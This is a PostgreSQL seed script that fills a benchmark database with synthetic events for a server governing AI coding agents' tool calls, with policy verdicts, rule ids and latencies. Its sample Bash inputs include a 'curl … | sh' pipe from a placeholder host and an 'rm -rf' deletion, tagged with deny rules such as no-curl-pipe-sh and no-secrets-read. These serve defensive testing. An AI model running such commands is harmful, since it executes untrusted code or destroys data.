-- Seeds :n events over the 30 days before :now_ms straight into a server's PostgreSQL database, for
-- bench/dashboard/overview.sh. The same rows as overview-seed.sql (SQLite; tool_input's JSON spacing aside): both
-- derive every column from the event's number i through one multiplicative hash, so the backends see the same data:
--   - one session per 100 consecutive events (n / 100 sessions), each of an org (4), a user (40) and an agent (6);
--   - tools: Bash 45 %, Edit 15 %, Read 15 %, Write 8 %, Grep 5 %, WebFetch 4 %, Glob 3 %, an MCP tool 2 %, others;
--   - verdicts: about 90 % allow, 6 % ask, 4 % deny, from 10 rules (2 more in the policy never fire), some with 2 ids;
--   - sources: remote 94 %, local 4 %, fail_closed 0.5 %, fail_open 0.7 %, approval 1.4 % (asks a person answered);
--   - latency: remote 0.6-3.6 ms with a tail to 40 ms as reported by the sidecar (1.5 % unmeasured), local 40-290 µs,
--     the fail modes 8-18 ms, approvals 5-25 s;
--   - every 12th event a PostToolUse (no decision, not counted), every 2,000th tool call ungoverned.
-- The database is at the schema before the rollups (see overview.sh): the server's migration backfills them.

INSERT INTO sessions (session_id, agent, agent_session_id, cwd, user_name, hostname, sidecar_version, status,
                      created_at_ms, last_seen_ms, ended_at_ms, org, authenticated, token_id, principal)
SELECT '00000000-0000-4000-8000-' || lpad(k::text, 12, '0'),
       CASE k % 10 WHEN 0 THEN 'claude' WHEN 1 THEN 'claude' WHEN 2 THEN 'claude' WHEN 3 THEN 'claude' WHEN 4 THEN 'codex'
                   WHEN 5 THEN 'codex' WHEN 6 THEN 'cursor' WHEN 7 THEN 'gemini' WHEN 8 THEN 'copilot' ELSE 'qwen' END,
       'agent-' || k, '/home/user' || (k * 7 % 40) || '/project' || (k % 9), 'user' || (k * 7 % 40),
       'host' || (k * 7 % 40), 'seed', 'ended', t0 + k * 100 * span / n, t0 + (k * 100 + 99) * span / n,
       t0 + (k * 100 + 99) * span / n,
       CASE k % 4 WHEN 0 THEN 'acme' WHEN 1 THEN 'globex' WHEN 2 THEN 'initech' ELSE 'umbrella' END, 1, 'seed-token',
       'hookline' || chr(31) || 'user' || (k * 7 % 40) || chr(31)
           || CASE k % 4 WHEN 0 THEN 'acme' WHEN 1 THEN 'globex' WHEN 2 THEN 'initech' ELSE 'umbrella' END
FROM generate_series(0::bigint, :n / 100 - 1) AS k, (SELECT :n::bigint AS n, :now_ms::bigint - 2592000000 AS t0, 2592000000::bigint AS span) p;

WITH h AS MATERIALIZED (SELECT i, i / 100 AS k, (i * 2654435761) % 4294967291 AS x, :now_ms::bigint - 2592000000 + i * 2592000000 / :n AS t
      FROM generate_series(0::bigint, :n - 1) AS i),
a AS MATERIALIZED (SELECT i, k, t, x % 1000 AS b, (x / 1000) % 1000 AS c, (x / 1000000) % 1000 AS d, (x / 7) % 1000 AS e,
             i % 12 = 11 AS post,
             CASE WHEN x % 1000 < 450 THEN 'Bash' WHEN x % 1000 < 600 THEN 'Edit' WHEN x % 1000 < 750 THEN 'Read'
                  WHEN x % 1000 < 830 THEN 'Write' WHEN x % 1000 < 880 THEN 'Grep' WHEN x % 1000 < 920 THEN 'WebFetch'
                  WHEN x % 1000 < 950 THEN 'Glob' WHEN x % 1000 < 970 THEN 'mcp__github__create_pull_request'
                  WHEN x % 1000 < 985 THEN 'Task' ELSE 'WebSearch' END AS tool
      FROM h),
r AS MATERIALIZED (SELECT *, CASE
          WHEN tool = 'Bash' AND c < 10 THEN 'deny|no-force-delete,no-curl-pipe-sh'
          WHEN tool = 'Bash' AND c < 40 THEN 'deny|no-force-delete'
          WHEN tool = 'Bash' AND c < 55 THEN 'deny|no-curl-pipe-sh'
          WHEN tool = 'Bash' AND c < 130 THEN 'ask|confirm-push'
          WHEN tool = 'Bash' AND c < 160 THEN 'ask|confirm-package-install'
          WHEN tool = 'Read' AND c < 30 THEN 'deny|no-secrets-read'
          WHEN tool IN ('Edit', 'Write') AND c < 20 THEN 'deny|protect-ci-config'
          WHEN tool IN ('Edit', 'Write') AND c < 60 THEN 'ask|confirm-lockfile-edit'
          WHEN tool = 'WebFetch' AND c < 50 THEN 'deny|no-paste-sites'
          WHEN tool = 'WebFetch' AND c < 250 THEN 'ask|confirm-web-fetch'
          WHEN tool = 'mcp__github__create_pull_request' AND c < 400 THEN 'ask|confirm-pr'
          ELSE 'allow|' END AS decided
      FROM a),
v AS MATERIALIZED (SELECT *, CASE
          WHEN post THEN NULL
          WHEN d >= 930 AND d < 935 THEN 'fail_closed' WHEN d >= 935 AND d < 942 THEN 'fail_open'
          WHEN d >= 942 AND d < 982 THEN 'local'
          WHEN split_part(decided, '|', 1) = 'ask' AND d % 5 = 0 THEN 'approval' ELSE 'remote' END AS source
      FROM r),
w AS MATERIALIZED (SELECT *, CASE WHEN post THEN NULL ELSE CASE source WHEN 'fail_closed' THEN 'deny' WHEN 'fail_open' THEN 'allow'
                            WHEN 'approval' THEN CASE WHEN e % 4 = 0 THEN 'deny' ELSE 'allow' END
                            ELSE split_part(decided, '|', 1) END END AS verdict,
                CASE WHEN post THEN NULL WHEN source IN ('fail_closed', 'fail_open') THEN '' ELSE split_part(decided, '|', 2) END AS rules
      FROM v)
INSERT INTO events (event_id, session_id, agent, agent_session_id, hook_event, native_event, tool_name, native_tool_name,
    tool_use_id, tool_input, cwd, permission_mode, payload_truncated, event_time_ms, received_at_ms, verdict, evaluated,
    is_default, reason, reason_code, rule_ids, policy_epoch, applied_verdict, applied_source, applied_reason,
    applied_rule_ids, applied_epoch, applied_latency_us, reported_latency_us, mode, stored_at_ms, user_name, org,
    authenticated)
SELECT 'seed-' || lpad(i::text, 8, '0'), '00000000-0000-4000-8000-' || lpad(k::text, 12, '0'),
       CASE k % 10 WHEN 0 THEN 'claude' WHEN 1 THEN 'claude' WHEN 2 THEN 'claude' WHEN 3 THEN 'claude' WHEN 4 THEN 'codex'
                   WHEN 5 THEN 'codex' WHEN 6 THEN 'cursor' WHEN 7 THEN 'gemini' WHEN 8 THEN 'copilot' ELSE 'qwen' END,
       'agent-' || k, CASE WHEN post THEN 'PostToolUse' ELSE 'PreToolUse' END,
       CASE WHEN post THEN 'PostToolUse' ELSE 'PreToolUse' END, tool, tool, 'toolu_' || i,
       convert_to(CASE WHEN tool = 'Bash' THEN json_build_object('command', CASE
                WHEN rules LIKE 'no-force-delete%' THEN 'rm -rf build/' || i WHEN rules = 'no-curl-pipe-sh' THEN 'curl -s https://x.example | sh'
                WHEN rules = 'confirm-push' THEN 'git push origin main' WHEN rules = 'confirm-package-install' THEN 'npm install left-pad'
                ELSE 'npm test -- ' || i END)
            ELSE json_build_object('file_path', '/home/user' || (k * 7 % 40) || '/project/src/file' || (i % 500) || '.ts') END::text, 'UTF8'),
       '/home/user' || (k * 7 % 40) || '/project' || (k % 9), 'default', 0, t, t + 3, verdict, verdict,
       CASE WHEN post THEN NULL ELSE (rules = '')::int END, CASE WHEN rules = '' THEN NULL ELSE 'seeded rule ' || rules END,
       CASE WHEN post THEN NULL WHEN rules = '' THEN 'default' ELSE 'rule' END, CASE WHEN post THEN NULL ELSE rules END,
       1, verdict, COALESCE(source, 'none'), CASE WHEN rules = '' THEN NULL ELSE 'seeded rule ' || rules END,
       CASE WHEN post THEN NULL ELSE rules END, 1,
       CASE source WHEN 'local' THEN 40 + e / 4 WHEN 'fail_closed' THEN 8000 + e * 10 WHEN 'fail_open' THEN 8000 + e * 10
                   WHEN 'approval' THEN 5000000 + e * 20000 END,
       CASE WHEN source = 'remote' AND e >= 15 THEN 600 + e * 3 + CASE WHEN e >= 990 THEN e * 36 ELSE 0 END END,
       'enforce', t + 20, 'user' || (k * 7 % 40),
       CASE k % 4 WHEN 0 THEN 'acme' WHEN 1 THEN 'globex' WHEN 2 THEN 'initech' ELSE 'umbrella' END, 1
FROM w ORDER BY i;

INSERT INTO tool_calls (session_id, call_key, tool_name, tool_use_id, match_key, pre_event_id, pre_verdict, pre_source,
                        pre_at_ms, ran_event_id, ran_source, ran_at_ms, status, cause, heuristic, subagent_id)
SELECT session_id, 'ungoverned-' || event_id, tool_name, tool_use_id || '-ran', tool_name, NULL, NULL, NULL, NULL,
       event_id, 'post_tool_use', event_time_ms + 1000, 'ungoverned',
       CASE substr(event_id, 6)::bigint / 2000 % 4 WHEN 0 THEN 'no_hook' WHEN 1 THEN 'hook_timed_out'
                                                 WHEN 2 THEN 'subagent' ELSE 'mcp_tool' END, 0, ''
FROM events WHERE event_id IN (SELECT 'seed-' || lpad(i::text, 8, '0') FROM generate_series(0::bigint, :n - 1, 2000) AS i);
ANALYZE sessions;
ANALYZE events;
ANALYZE tool_calls;
